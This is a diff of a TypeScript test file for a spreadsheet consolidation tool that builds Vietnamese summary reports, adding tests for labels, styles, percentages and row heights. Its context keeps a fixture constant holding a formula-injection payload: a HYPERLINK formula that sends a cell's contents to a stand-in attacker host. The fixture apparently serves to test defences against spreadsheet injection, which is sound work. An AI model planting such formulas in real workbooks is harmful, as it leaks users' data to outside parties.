@@ -1,6 +1,7 @@
 import { consolidate, summaryWorkbook } from "../../../src/core/consolidate";
 import type { CellModel, SheetModel } from "../../../src/core/sheet";
 import { book, form, notAReport, single, smallPlan, unreadable } from "./factory";
+import { defaultPlan } from "../../../src/core/plan";
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
 
@@ -145,5 +146,29 @@ describe("summaryWorkbook", () => {
     const files = s.cells.filter((c) => c.col === 1 && c.row > 2).map((c) => c.value);
     expect(files).toEqual(["=cu.xlsx", "@hong.xlsx", "X_C.xlsx", "bang-luong.xlsx", "la.xlsx#Sheet1"]);
     expect(rowWhere(s, 1, "=cu.xlsx")[2]).toBe("Trùng, đã có bản mới hơn");
+  });
+});
+
+describe("TongHop on the built-in plan", () => {
+  const s = summaryWorkbook(defaultPlan, consolidate(defaultPlan, "2024-Y", "2024-12-12", [])).sheets[0];
+  const rowOf = (code: string) => s.cells.find((c) => c.col === 1 && c.value === code)!.row;
+  const cell = (code: string, col: number) => s.cells.find((c) => c.row === rowOf(code) && c.col === col);
+
+  it.each([
+    ["TT02.NU", "Trong đó: Nữ", "child"],
+    ["BL02.TE", "Trong đó: Trẻ em dưới 16 tuổi", "child"],
+    ["TT02", "Số lượt người tham dự tuyên truyền", "text"],
+  ])("%s keeps the plan's label once (%s)", (code, label, style) => {
+    expect(cell(code, 2)?.value).toBe(label);
+    expect(cell(code, 2)?.style).toBe(style);
+  });
+
+  it("a yes/no row is totalled in % of units, not in Có/Không", () => {
+    expect(cell("TH01", 3)?.value).toBe("% đơn vị");
+  });
+
+  it("a long wrapped label gets a taller row", () => {
+    const long = rowOf("TT01"); // "Số buổi tuyên truyền, truyền thông về bình đẳng giới, phòng, chống bạo lực gia đình, …"
+    expect(s.rowHeights?.[long]).toBeGreaterThanOrEqual(30);
   });
 });
